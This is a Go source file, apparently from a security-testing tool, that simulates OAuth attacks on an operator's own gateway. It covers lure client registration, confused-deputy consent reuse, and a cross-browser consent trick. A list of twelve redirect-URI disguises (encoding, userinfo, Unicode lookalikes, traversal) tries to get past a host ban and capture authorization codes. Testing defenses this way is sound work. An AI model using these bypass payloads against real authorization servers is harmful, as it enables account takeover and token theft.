package attack

import (
	"fmt"
	"strings"

	"github.com/kidoban/kidoban"
)

// The attacker's hosts.
const (
	lureHost   = "calendar-invites.example"
	bannedHost = "evil-calendar.example"
)

// phishing: the attacker registers a client under a friendly name and sends the
// link around. Domain, login and passkey are the real ones; only the page can tell.
func (r *raid) phishing() error { return r.lure("Team calendar") }

// lure registers a client under a name and sends its link to the victim.
func (r *raid) lure(name string) error {
	const redirect = "https://" + lureHost + "/oauth/done"
	client, refusal, err := r.register(name, redirect)
	if err != nil {
		return err
	}
	if client == "" {
		r.res.End = "The registration was refused: " + refusal
		return nil
	}
	r.victim.refuses = []string{lureHost}
	at, err := r.victim.open(r.link(client, redirect), nil)
	if err != nil {
		return err
	}
	return r.verdict(client, redirect, at)
}

// habit lets the victim connect a program of their own first, as on any day: login
// and consent at the third party are remembered from then on.
func (r *raid) habit() error {
	redirect := "http://" + r.own.addr + "/callback"
	client, refusal, err := r.register("Desk assistant", redirect)
	if err != nil {
		return err
	}
	if client == "" {
		return kidoban.Errorf(kidoban.KindInput, "the victim's own program cannot be registered: %s", refusal)
	}
	at, err := r.victim.open(r.link(client, redirect), nil)
	if err != nil {
		return err
	}
	if len(r.own.codes()) == 0 {
		return kidoban.Errorf(kidoban.KindInput, "the victim's own program cannot be connected: the way ends at “%s” (%s)", at.Title, at.URL)
	}
	r.victim.seen = nil
	return nil
}

// confusedDeputy: the third party would not ask again. Does the server?
func (r *raid) confusedDeputy() error {
	if err := r.habit(); err != nil {
		return err
	}
	return r.lure("Desk assistant 2")
}

// otherBrowser: the attacker says yes himself, as himself, and sends the address
// of the third party to the victim, whose login there does the rest.
func (r *raid) otherBrowser() error {
	if err := r.habit(); err != nil {
		return err
	}
	const redirect = "https://" + lureHost + "/oauth/done"
	client, refusal, err := r.register("Team calendar", redirect)
	if err != nil {
		return err
	}
	if client == "" {
		r.res.End = "The registration was refused: " + refusal
		return nil
	}
	attacker, err := r.person(r.t.Attacker, r.t.AttackerThere)
	if err != nil {
		return err
	}
	defer attacker.close()
	if err := attacker.follow(); err != nil {
		return err
	}
	there := func(page) bool { return attacker.ledTo(r.t.ThirdParty+"/") != "" }
	at, err := attacker.open(r.link(client, redirect), there)
	if err != nil {
		return err
	}
	prepared := attacker.ledTo(r.t.ThirdParty + "/")
	if prepared == "" {
		r.res.End = "The attacker did not get to the third party: “" + at.Title + "”."
		return nil
	}
	r.victim.refuses = []string{lureHost}
	if at, err = r.victim.open(prepared, nil); err != nil {
		return err
	}
	return r.verdict(client, redirect, at)
}

// disguises are twelve ways to write a callback at the banned host. A browser
// carries the code to the same place with every one of them.
func disguises() []string {
	return []string{
		"https://EVIL-Calendar.Example/oauth/done",
		"https://" + bannedHost + ":443/oauth/done",
		"https://" + bannedHost + ":8443/oauth/done",
		"https://" + bannedHost + "./oauth/done",
		"https://login." + bannedHost + "/oauth/done",
		"https://" + bannedHost + "/oauth/done/2",
		"https://" + bannedHost + "/%6Fauth/done",
		"https://" + bannedHost + "/x/../oauth/done",
		"https://" + bannedHost + "?to=/oauth/done",
		"https://user@" + bannedHost + "/oauth/done",
		"https://ｅｖｉｌ-calendar.example/oauth/done",
		"https://evil\u00ad-calendar.example/oauth/done",
	}
}

// bannedHost: the operator has banned the host; it comes back in disguise.
func (r *raid) bannedHost() error {
	if r.t.Ban == nil {
		return kidoban.Errorf(kidoban.KindUsage, "somebody must ban the host first: kidoban gateway deny host %s", bannedHost)
	}
	plain := "https://" + bannedHost + "/oauth/done"
	old, _, err := r.register("Team calendar", plain) // the link that is out already
	if err != nil {
		return err
	}
	if err := r.t.Ban(r.ctx, bannedHost); err != nil {
		return err
	}
	if id, _, err := r.register("Team calendar", plain); err != nil || id != "" {
		if err == nil {
			err = kidoban.Errorf(kidoban.KindInput, "%s is not banned: its client was registered", plain)
		}
		return err
	}
	r.victim.refuses = []string{"evil-calendar"}
	var through, refused []string
	var last page
	for _, redirect := range disguises() {
		client, refusal, err := r.register("Team calendar", redirect)
		if err != nil {
			return err
		}
		if client == "" {
			refused = append(refused, refusal)
			continue
		}
		before := len(r.evil.codes())
		if last, err = r.victim.open(r.link(client, redirect), nil); err != nil {
			return err
		}
		if codes := r.evil.codes(); len(codes) > before {
			loot, err := r.loot(client, redirect, codes[len(codes)-1].Get("code"))
			if err != nil {
				return err
			}
			if loot != "" {
				through, r.res.Loot = append(through, redirect), loot
			}
		}
	}
	r.res.Page, r.res.Succeeded = last.Title, len(through) > 0
	if r.res.Succeeded {
		r.res.End = fmt.Sprintf("%d of 12 disguises got through: %s", len(through), strings.Join(through, " "))
		return r.photo("")
	}
	r.res.End = fmt.Sprintf("%d of 12 disguises were refused at registration, none got a code.", len(refused))
	if old == "" {
		return nil
	}
	end := r.res.End
	r.res.End = ""
	at, err := r.victim.open(r.link(old, plain), nil)
	if err != nil {
		return err
	}
	if err = r.verdict(old, plain, at); !r.res.Succeeded {
		r.res.End = end + " The link that was out already ends at the page “" + at.Title + "”."
	}
	return err
}
